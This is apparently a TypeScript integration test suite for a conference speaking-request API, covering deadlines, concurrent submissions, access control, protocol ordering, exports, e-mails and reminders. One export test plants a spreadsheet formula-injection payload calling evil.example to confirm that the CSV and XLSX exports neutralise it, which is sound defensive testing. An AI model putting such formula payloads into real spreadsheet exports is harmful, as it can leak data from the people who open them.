/**
 * Speaking requests through the JSON API on a real database: the deadline with the clock injected, one request per
 * entity per kind under concurrent submits, who may touch what, review and protocol order, exports, e-mails, reminders.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import { after, before, beforeEach, describe, it } from 'node:test';
import { and, eq } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { buildTestApp, type TestApp } from '../../../test/helpers/app.js';
import { client, createPerson, type Client } from '../../../test/helpers/actors.js';
import { TEST_NOW } from '../../../test/helpers/db.js';
import { entities } from '../entities/index.js';
import { auditLog, jobs } from '../../platform/platform.schema.js';
import { runDueJobs } from '../../platform/jobs.js';
import { clearRenderCache } from '../../platform/http/cache.js';
import { speakingRequests } from './speaking.schema.js';
import { erasePerson } from '../accounts/index.js';
import { REMINDER_JOB, scheduleAllReminders, speakingHandlers } from './speaking.jobs.js';

const EVENT = 'wsis-high-level-track-2026';
const URL = `/api/v1/events/${EVENT}/speaking-requests`;

type Mail = { to: string; template: string; locale: string; params: Record<string, string> };

describe('speaking requests API', () => {
  let t: TestApp;
  const ids: Record<string, number> = {};
  /** The secretariat, signed in now (test sessions last a day, and the clock moves). */
  const secretariat = async () =>
    client(t, await createPerson(t, { role: 'staff', capabilities: ['speaking.review'] }));
  const post = (c: Client, url: string, payload: unknown, headers: Record<string, string> = {}) =>
    c.inject({
      method: 'POST',
      url,
      payload: payload as Record<string, unknown>,
      headers: { 'x-csrf-token': c.csrf, ...headers },
    });
  const speaker = (over: Record<string, unknown> = {}) => ({
    kind: 'policy_statement',
    rank: 'minister',
    givenName: 'Amina',
    familyName: 'Diallo',
    givenNameLatin: 'Amina',
    familyNameLatin: 'DIALLO',
    title: 'Minister of Communication',
    language: 'fr',
    abstract: 'Connectivity for all.',
    ...over,
  });
  const mails = async () =>
    (await t.database.db.select().from(jobs).where(eq(jobs.kind, 'mail.send'))).map((j) => j.payload as Mail);

  before(async () => {
    t = await buildTestApp();
    for (const c of ['SN', 'PE', 'EG', 'SA', 'JP', 'FR', 'BR', 'KE', 'IN', 'CA', 'NG']) {
      [{ id: ids[c] }] = await t.database.db.select({ id: entities.id }).from(entities).where(eq(entities.code, c));
    }
  });
  after(() => t.close());
  beforeEach(() => t.clock.set(TEST_NOW));

  it('accepts a request at 23:59:59 Geneva time on 1 May and refuses one at 00:00:00, in the user’s language; a late permit lets one entity in', async () => {
    const open = await t.app.inject({ url: `/api/v1/events/${EVENT}/speaking` });
    assert.equal(open.json().deadline, '2026-05-01T23:59:59+02:00');
    assert.equal(open.json().open, true);

    t.clock.set(new Date('2026-05-01T23:59:59.000+02:00'));
    const dfp = await client(t, await createPerson(t, { focalPointOf: [ids.SN], entityId: ids.SN }));
    const staff = await secretariat();
    const inTime = await post(dfp, URL, { entityId: ids.SN, ...speaker() });
    assert.equal(inTime.statusCode, 200, inTime.body);
    assert.equal(inTime.json().late, false);

    t.clock.set(new Date('2026-05-02T00:00:00+02:00')); // summer time: 22:00 UTC on 1 May
    const late = await post(
      dfp,
      URL,
      { entityId: ids.SN, ...speaker({ kind: 'high_level_session' }) },
      { 'accept-language': 'fr' },
    );
    assert.equal(late.statusCode, 409);
    assert.equal(late.json().code, 'deadline_passed');
    assert.match(
      late.json().title,
      /date limite des demandes de prise de parole est passée \(vendredi,? 1 mai 2026 à 23:59, heure de Genève\)/,
    );
    const edit = await dfp.inject({
      method: 'PATCH',
      url: `/api/v1/speaking-requests/${inTime.json().id}`,
      payload: { ...speaker(), abstract: 'Changed' },
      headers: { 'x-csrf-token': dfp.csrf },
    });
    assert.equal(edit.json().code, 'deadline_passed', 'no edits after the deadline either');
    assert.equal((await t.app.inject({ url: `/api/v1/events/${EVENT}/speaking` })).json().open, false);

    const permit = await post(staff, `/api/v1/events/${EVENT}/speaking-late-permits`, {
      entityId: ids.SN,
      reason: 'Letter CL-26/17 arrived late',
    });
    assert.equal(permit.statusCode, 200, permit.body);
    const allowed = await post(dfp, URL, { entityId: ids.SN, ...speaker({ kind: 'high_level_session' }) });
    assert.equal(allowed.statusCode, 200, allowed.body);
    assert.equal(allowed.json().late, true);
    const trail = await t.database.db.select().from(auditLog).where(eq(auditLog.action, 'speaking.late_permitted'));
    assert.equal(trail.length, 1);
    assert.equal(trail[0].subjectId, String(ids.SN));
    // Another entity is still refused.
    const other = await client(t, await createPerson(t, { focalPointOf: [ids.PE], entityId: ids.PE }));
    assert.equal((await post(other, URL, { entityId: ids.PE, ...speaker() })).json().code, 'deadline_passed');
  });

  it('keeps one live request per entity per kind under concurrent submits; a withdrawn one frees the kind', async () => {
    const dfp = await client(t, await createPerson(t, { focalPointOf: [ids.PE], entityId: ids.PE }));
    const results = await Promise.all(
      Array.from({ length: 8 }, (_, i) =>
        post(dfp, URL, { entityId: ids.PE, ...speaker({ givenName: `Speaker${i}` }) }),
      ),
    );
    const codes = results.map((r) => r.statusCode).sort();
    assert.deepEqual(codes, [200, 409, 409, 409, 409, 409, 409, 409]);
    assert.ok(results.filter((r) => r.statusCode === 409).every((r) => r.json().code === 'speaking_request_exists'));
    const rows = await t.database.db
      .select()
      .from(speakingRequests)
      .where(and(eq(speakingRequests.entityId, ids.PE), eq(speakingRequests.kind, 'policy_statement')));
    assert.equal(rows.length, 1);
    const id = results.find((r) => r.statusCode === 200)!.json().id;
    assert.equal((await post(dfp, `/api/v1/speaking-requests/${id}/withdraw`, {})).json().state, 'withdrawn');
    assert.equal((await post(dfp, URL, { entityId: ids.PE, ...speaker() })).statusCode, 200);
  });

  it('a focal point of A cannot see, change or withdraw B’s request, nor submit for B; other stakeholders get high-level sessions only', async () => {
    const a = await client(t, await createPerson(t, { focalPointOf: [ids.EG], entityId: ids.EG }));
    const b = await client(t, await createPerson(t, { focalPointOf: [ids.JP], entityId: ids.JP }));
    const mine = await post(b, URL, { entityId: ids.JP, ...speaker() });
    const id = mine.json().id;
    assert.equal(
      (await post(a, URL, { entityId: ids.JP, ...speaker({ kind: 'high_level_session' }) })).statusCode,
      403,
    );
    const patch = await a.inject({
      method: 'PATCH',
      url: `/api/v1/speaking-requests/${id}`,
      payload: speaker({ abstract: 'hijacked' }),
      headers: { 'x-csrf-token': a.csrf },
    });
    assert.equal(patch.statusCode, 404);
    assert.equal(patch.json().code, 'speaking_request_not_found');
    assert.equal((await post(a, `/api/v1/speaking-requests/${id}/withdraw`, {})).statusCode, 404);
    assert.ok(!(await a.inject({ url: URL })).json().requests.some((r: { id: string }) => r.id === id));
    assert.equal(
      (await a.inject({ url: `/api/v1/events/${EVENT}/speaking-queue` })).statusCode,
      403,
      'the queue is the secretariat’s',
    );
    assert.equal((await post(a, `/api/v1/speaking-requests/${id}/decision`, { decision: 'accept' })).statusCode, 403);
    const [row] = await t.database.db.select().from(speakingRequests).where(eq(speakingRequests.id, id));
    assert.equal(row.abstract, 'Connectivity for all.');
    assert.equal(row.state, 'submitted');
    // A participant with no entity is refused at the gate.
    assert.equal(
      (await post(await client(t, await createPerson(t)), URL, { entityId: ids.EG, ...speaker() })).statusCode,
      403,
    );

    // Another stakeholder, through their own account.
    const [acme] = await t.database.db
      .insert(entities)
      .values({ kind: 'private_sector', name: { en: 'Acme Networks' }, createdAt: TEST_NOW, updatedAt: TEST_NOW })
      .returning();
    const ceo = await client(t, await createPerson(t, { entityId: acme.id }));
    const refused = await post(ceo, URL, { entityId: acme.id, ...speaker() });
    assert.equal(refused.json().code, 'speaking_kind_not_allowed');
    assert.equal(
      (await post(ceo, URL, { entityId: acme.id, ...speaker({ kind: 'high_level_session', rank: 'other' }) }))
        .statusCode,
      200,
    );
    // The Regulators' Roundtable: heads of regulatory authorities only.
    assert.equal(
      (await post(a, URL, { entityId: ids.EG, ...speaker({ kind: 'regulators_roundtable' }) })).json().code,
      'speaking_rank_not_allowed',
    );
    assert.equal(
      (
        await post(a, URL, {
          entityId: ids.EG,
          ...speaker({ kind: 'regulators_roundtable', rank: 'head_of_regulator' }),
        })
      ).statusCode,
      200,
    );
  });

  it('the secretariat accepts, assigns and orders by protocol; a move by hand is audited; the list is exported; the public session shows the speakers; e-mails go out in each language', async () => {
    const submitFor = async (
      code: string,
      rank: string,
      names: { givenName: string; familyName: string; givenNameLatin: string; familyNameLatin: string },
      speakerLocale: string,
      at: string,
    ) => {
      t.clock.set(new Date(at));
      const p = await createPerson(t, { focalPointOf: [ids[code]], entityId: ids[code], locale: 'en' });
      const c = await client(t, p);
      const res = await post(c, URL, {
        entityId: ids[code],
        ...speaker({ rank, ...names, speakerEmail: `speaker.${code.toLowerCase()}@gov.example`, speakerLocale }),
      });
      assert.equal(res.statusCode, 200, res.body);
      return { id: res.json().id as string, requester: p.email };
    };
    const sa = await submitFor(
      'SA',
      'minister',
      { givenName: 'عبد الله', familyName: 'السواحه', givenNameLatin: 'Abdullah', familyNameLatin: 'ALSWAHA' },
      'ar',
      '2026-04-21T09:00:00+02:00',
    );
    const fr = await submitFor(
      'FR',
      'minister',
      { givenName: 'Claire', familyName: 'Martin', givenNameLatin: 'Claire', familyNameLatin: 'MARTIN' },
      'fr',
      '2026-04-22T09:00:00+02:00',
    );
    const br = await submitFor(
      'BR',
      'head_of_state',
      { givenName: 'Paulo', familyName: 'Silva', givenNameLatin: 'Paulo', familyNameLatin: 'SILVA' },
      'es',
      '2026-04-25T09:00:00+02:00',
    );
    const ke = await submitFor(
      'KE',
      'ambassador',
      { givenName: 'Wanjiru', familyName: 'Kamau', givenNameLatin: 'Wanjiru', familyNameLatin: 'KAMAU' },
      'en',
      '2026-04-20T11:00:00+02:00',
    );
    t.clock.set(new Date('2026-05-05T10:00:00+02:00'));
    const staff = await secretariat();

    // The queue, filtered.
    const q = (qs: string) =>
      staff
        .inject({ url: `/api/v1/events/${EVENT}/speaking-queue?${qs}` })
        .then((r) => r.json().requests as { id: string }[]);
    assert.deepEqual(
      (await q('rank=head_of_state')).map((r) => r.id),
      [br.id],
    );
    assert.ok((await q('region=B')).some((r) => r.id === fr.id) && !(await q('region=B')).some((r) => r.id === sa.id));
    assert.ok((await q('kind=policy_statement&state=submitted')).length >= 4);

    assert.equal(
      (await post(staff, `/api/v1/speaking-requests/${ke.id}/decision`, { decision: 'decline' })).json().code,
      'reason_required',
    );
    for (const r of [sa, fr, br, ke]) {
      const res = await post(staff, `/api/v1/speaking-requests/${r.id}/decision`, { decision: 'accept' });
      assert.equal(res.json().state, 'accepted', res.body);
      const as = await post(staff, `/api/v1/speaking-requests/${r.id}/session`, { session: 'HLT-04' });
      assert.equal(as.json().session, 'HLT-04', as.body);
    }
    assert.equal(
      (await post(staff, `/api/v1/speaking-requests/${sa.id}/session`, { session: 'GDAI-01' })).json().code,
      'session_not_in_event',
    );

    const list = async () => (await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list' })).json();
    // Head of State first; the two ministers by the time received; the ambassador last although first to ask.
    assert.deepEqual(
      (await list()).speakers.map((s: { id: string }) => s.id),
      [br.id, sa.id, fr.id, ke.id],
    );
    const moved = await post(staff, `/api/v1/speaking-requests/${ke.id}/position`, {
      position: 2,
      reason: 'Has to leave for the airport',
    });
    assert.equal(moved.statusCode, 200, moved.body);
    const l = await list();
    assert.deepEqual(
      l.speakers.map((s: { id: string }) => s.id),
      [br.id, ke.id, sa.id, fr.id],
    );
    assert.equal(l.speakers[1].movedByHand, 'Has to leave for the airport');
    const [trail] = await t.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'speaking.moved'), eq(auditLog.subjectId, ke.id)));
    assert.deepEqual(trail.changes, { position: [4, 2] });
    assert.deepEqual(trail.data, { reason: 'Has to leave for the airport' });

    // The time per statement against the session's 90 minutes.
    assert.equal(l.timeLimit, 180);
    assert.equal(l.overrun, false);
    assert.equal(
      (
        await staff.inject({
          method: 'PUT',
          url: '/api/v1/sessions/HLT-04/speaking-time',
          payload: { seconds: 1500 },
          headers: { 'x-csrf-token': staff.csrf },
        })
      ).statusCode,
      200,
    );
    const over = await list();
    assert.deepEqual([over.totalSeconds, over.lengthSeconds, over.overrun], [6000, 5400, true]);

    // Exports: CSV with a BOM and both scripts, names as lists write them ("Family, Given"); a PDF whose text holds the names.
    const csv = await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list.csv' });
    assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8');
    assert.ok(csv.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'UTF-8 BOM');
    // Every text cell quoted (OWASP), so read it back as a spreadsheet would.
    const rows = parse(csv.body, { bom: true }) as string[][];
    assert.equal(
      rows[0].join(','),
      'position,honorific,name,name_latin,title,rank,entity,entity_own_language,country,kind,language,minutes,moved_by_hand',
    );
    assert.deepEqual(rows[1].slice(0, 4), ['1', '', 'Silva, Paulo', 'SILVA, Paulo']);
    assert.deepEqual(rows[3].slice(0, 7), [
      '3',
      '',
      'السواحه، عبد الله',
      'ALSWAHA, Abdullah',
      'Minister of Communication',
      'minister',
      'Saudi Arabia',
    ]);
    // A formula typed as a title comes out as text in both spreadsheets.
    await t.database.db
      .update(speakingRequests)
      .set({ title: '=HYPERLINK("http://evil.example/"&A1)' })
      .where(eq(speakingRequests.familyNameLatin, 'SILVA'));
    const evil = await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list.csv' });
    assert.match(evil.headers['content-disposition'] as string, /^attachment; filename="speakers-HLT-04\.csv"/);
    assert.ok(evil.body.includes(`"'=HYPERLINK(""http://evil.example/""&A1)"`), evil.body);
    const xlsx = await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list.xlsx' });
    assert.equal(xlsx.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as never);
    assert.equal(wb.worksheets[0].getCell('E2').value, `'=HYPERLINK("http://evil.example/"&A1)`);
    const pdf = await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list.pdf?lang=ar' });
    assert.equal(pdf.headers['content-type'], 'application/pdf');
    assert.equal(pdf.rawPayload.subarray(0, 5).toString(), '%PDF-');
    if (fs.existsSync('/usr/bin/pdftotext')) {
      fs.mkdirSync('test-results', { recursive: true });
      fs.writeFileSync('test-results/speakers-HLT-04.pdf', pdf.rawPayload);
      const text = execFileSync('pdftotext', ['test-results/speakers-HLT-04.pdf', '-'], { encoding: 'utf8' });
      for (const n of ['Paulo SILVA', 'Abdullah ALSWAHA', 'Claire MARTIN', 'Wanjiru KAMAU'])
        assert.ok(text.includes(n), n);
    }
    assert.equal(
      (
        await (
          await client(t, await createPerson(t, { focalPointOf: [ids.SA], entityId: ids.SA }))
        ).inject({ url: '/api/v1/sessions/HLT-04/speakers-list.csv' })
      ).statusCode,
      403,
    );

    // Public: the session page and the sessions API show the accepted speakers in order.
    clearRenderCache();
    const api = (await t.app.inject({ url: '/api/v1/sessions/HLT-04?lang=en' })).json();
    const names = api.speakers.map((s: { nameLatin: string | null }) => s.nameLatin);
    assert.deepEqual(names.slice(-4), ['Paulo SILVA', 'Wanjiru KAMAU', 'Abdullah ALSWAHA', 'Claire MARTIN']);
    assert.equal(api.speakers.at(-2).country, 'SA');
    const page = await t.app.inject({ url: '/ar/sessions/HLT-04' });
    assert.ok(page.body.indexOf('Paulo SILVA') < page.body.indexOf('عبد الله السواحه'), 'the page lists them in order');

    // A decline takes the speaker off the list and off the public page.
    assert.equal(
      (
        await post(staff, `/api/v1/speaking-requests/${fr.id}/decision`, {
          decision: 'decline',
          reason: 'The session is full',
        })
      ).json().state,
      'declined',
    );
    assert.equal((await list()).speakers.length, 3);
    assert.ok(
      !(await t.app.inject({ url: '/api/v1/sessions/HLT-04' }))
        .json()
        .speakers.some((s: { nameLatin: string }) => s.nameLatin === 'Claire MARTIN'),
    );

    // E-mails: the requester in English, each speaker in their own language.
    const m = await mails();
    const toSpeakerSa = m.filter((x) => x.to === 'speaker.sa@gov.example');
    assert.deepEqual(
      toSpeakerSa.map((x) => [x.template, x.locale]),
      [
        ['speaking_decision', 'ar'],
        ['speaking_assigned', 'ar'],
      ],
    );
    assert.ok(
      m.some(
        (x) =>
          x.to === sa.requester &&
          x.template === 'speaking_assigned' &&
          x.locale === 'en' &&
          x.params.session.startsWith('High-Level Policy Statements'),
      ),
    );
    const declined = m.find((x) => x.to === 'speaker.fr@gov.example' && x.params.state === 'declined')!;
    assert.equal(declined.locale, 'fr');
    assert.equal(declined.params.reason, 'The session is full');
    assert.equal(declined.params.kind, 'Déclaration de politique générale');
  });

  it('reminds the focal points that have not submitted, 3 days before (the 14-day moment had passed), each once; moving the deadline schedules both anew', async () => {
    // At TEST_NOW (20 April) the seeded deadline's 14-day reminder (17 April) has passed: only the 3-day one is scheduled.
    const reminderJobs = () => t.database.db.select().from(jobs).where(eq(jobs.kind, REMINDER_JOB));
    assert.equal(await scheduleAllReminders(t.database.db, t.clock.now()), 1);
    assert.equal(await scheduleAllReminders(t.database.db, t.clock.now()), 0, 'idempotent at every start');
    const [job] = await reminderJobs();
    assert.equal(job.runAt.toISOString(), '2026-04-28T21:59:59.000Z');
    assert.deepEqual(job.payload, { eventId: job.payload.eventId, days: 3, deadline: '2026-05-01T21:59:59.000Z' });

    const waiting = await createPerson(t, { focalPointOf: [ids.IN], entityId: ids.IN, locale: 'ru' });
    const done = await createPerson(t, { focalPointOf: [ids.CA], entityId: ids.CA });
    assert.equal((await post(await client(t, done), URL, { entityId: ids.CA, ...speaker() })).statusCode, 200);

    const handlers = speakingHandlers(t.database.db, t.clock);
    const state = async () => (await t.database.db.select().from(jobs).where(eq(jobs.id, job.id)))[0].state;
    t.clock.set(new Date('2026-04-28T12:00:00+02:00'));
    await runDueJobs(t.database.db, t.clock, handlers);
    assert.equal(await state(), 'pending', 'not before its time');
    t.clock.set(new Date('2026-04-29T00:00:00+02:00'));
    await runDueJobs(t.database.db, t.clock, handlers);
    assert.equal(await state(), 'done');
    const reminded = (await mails()).filter((x) => x.template === 'speaking_reminder');
    assert.ok(reminded.some((x) => x.to === waiting.email && x.locale === 'ru' && Number(x.params.days) === 3));
    assert.ok(!reminded.some((x) => x.to === done.email), 'an entity that submitted is not reminded');
    // The same job run again (a retry, a second worker) sends nobody a second message.
    await handlers[REMINDER_JOB](job.payload, { id: job.id, attempts: 2 });
    assert.equal((await mails()).filter((x) => x.template === 'speaking_reminder' && x.to === waiting.email).length, 1);

    // Moving the deadline schedules the new one's reminders; the old job would do nothing.
    t.clock.set(TEST_NOW);
    const staff = await secretariat();
    const set = await staff.inject({
      method: 'PUT',
      url: `/api/v1/events/${EVENT}/speaking-deadline`,
      payload: { deadline: '2026-05-15T23:59:59+02:00' },
      headers: { 'x-csrf-token': staff.csrf },
    });
    assert.equal(set.statusCode, 200, set.body);
    assert.equal(set.json().deadline, '2026-05-15T23:59:59+02:00');
    const pending = (await reminderJobs())
      .filter((j) => j.state === 'pending')
      .map((j) => [j.payload.days, j.runAt.toISOString()]);
    assert.deepEqual(pending, [
      [14, '2026-05-01T21:59:59.000Z'],
      [3, '2026-05-12T21:59:59.000Z'],
    ]);
    assert.equal(
      (await t.database.db.select().from(auditLog).where(eq(auditLog.action, 'speaking.deadline_set'))).length,
      1,
    );
  });

  it('the requester’s page counts down in the user’s language, closes at the deadline, and shows refusals in that language', async () => {
    const staff = await secretariat();
    const reset = await staff.inject({
      method: 'PUT',
      url: `/api/v1/events/${EVENT}/speaking-deadline`,
      payload: { deadline: '2026-05-01T23:59:59+02:00' },
      headers: { 'x-csrf-token': staff.csrf },
    });
    assert.equal(reset.statusCode, 200);
    const person = await createPerson(t, { focalPointOf: [ids.NG], entityId: ids.NG, locale: 'fr' });
    const dfp = await client(t, person);
    const open = await dfp.inject({ url: '/fr/speaking' });
    assert.equal(open.statusCode, 200);
    assert.match(open.body, /Temps restant : 11 jours, 14 heures, 0 minute/);
    assert.match(open.body, /class="stack speaking-form"/);
    // A form with no speaker named: the refusal is in French, the values kept.
    const bad = await dfp.inject({
      method: 'POST',
      url: '/fr/speaking',
      form: { entityId: String(ids.NG), kind: 'policy_statement', rank: 'minister', language: 'en', title: 'Ministre' },
    });
    assert.equal(bad.statusCode, 400);
    assert.match(
      bad.body,
      /Choisissez une personne ou saisissez le nom de l&#39;orateur|Choisissez une personne ou saisissez le nom de l'orateur/,
    );
    assert.match(bad.body, /value="Ministre"/);
    const noRank = await dfp.inject({
      method: 'POST',
      url: '/fr/speaking',
      form: {
        entityId: String(ids.NG),
        kind: 'policy_statement',
        rank: '',
        language: 'en',
        givenName: 'Jane',
        familyName: 'Doe',
      },
    });
    assert.equal(noRank.statusCode, 400, 'the rank must be chosen: no default of Head of State');
    assert.match(noRank.body, /id="rank-error"/);

    t.clock.set(new Date('2026-05-02T00:00:00+02:00'));
    const lateClient = await client(
      t,
      await createPerson(t, { focalPointOf: [ids.NG], entityId: ids.NG, locale: 'fr' }),
    );
    const closed = await lateClient.inject({ url: '/fr/speaking' });
    assert.match(closed.body, /La date limite est passée/);
    assert.doesNotMatch(closed.body, /speaking-form/, 'no form after the deadline');
    const refused = await lateClient.inject({
      method: 'POST',
      url: '/fr/speaking',
      form: {
        entityId: String(ids.NG),
        kind: 'policy_statement',
        rank: 'minister',
        language: 'en',
        givenName: 'Jane',
        familyName: 'Doe',
      },
    });
    assert.equal(refused.statusCode, 409);
    assert.match(refused.body, /La date limite des demandes de prise de parole est passée/);
  });

  it('erasing a person erases the speaker details copied from them', async () => {
    const minister = await createPerson(t, { entityId: ids.IN });
    const dfp = await client(t, await createPerson(t, { focalPointOf: [ids.IN], entityId: ids.IN }));
    const res = await post(dfp, URL, {
      entityId: ids.IN,
      kind: 'ministerial_roundtable',
      speakerPersonId: minister.id,
      rank: 'minister',
      language: 'en',
    });
    assert.equal(res.statusCode, 200, res.body);
    assert.match(res.json().speaker.name, /^Given\d+ Family\d+$/);
    const admin = await createPerson(t, { role: 'admin' });
    await erasePerson(
      {
        db: t.database.db,
        locale: 'en',
        now: t.clock.now(),
        actor: {
          kind: 'person',
          id: admin.id,
          role: 'admin',
          capabilities: [],
          focalPointOf: [],
          entityId: null,
          via: 'session',
        },
      },
      minister.id,
    );
    const [row] = await t.database.db.select().from(speakingRequests).where(eq(speakingRequests.id, res.json().id));
    assert.deepEqual([row.givenName, row.familyName, row.speakerEmail], ['', '', null]);
  });

  it('is in the OpenAPI document', async () => {
    const spec = (await t.app.inject({ url: '/api/openapi.json' })).json();
    for (const p of [
      '/api/v1/events/{slug}/speaking-requests',
      '/api/v1/events/{slug}/speaking-queue',
      '/api/v1/speaking-requests/{id}/decision',
      '/api/v1/sessions/{code}/speakers-list',
    ])
      assert.ok(spec.paths[p], p);
  });
});
